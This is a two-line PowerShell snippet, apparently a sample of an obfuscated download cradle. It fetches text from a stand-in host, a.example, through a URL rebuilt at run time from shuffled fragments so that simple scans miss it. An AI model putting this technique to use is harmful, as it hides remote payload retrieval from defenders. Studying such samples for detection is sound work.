$wc = New-Object System.Net.WebClient
$wc.DownloadString(((@{n=2;t='a.example'},@{n=3;t='/p/x.txt'},@{n=1;t='http://'} | sort {$_.n} | %{$_.t}) -join ''))
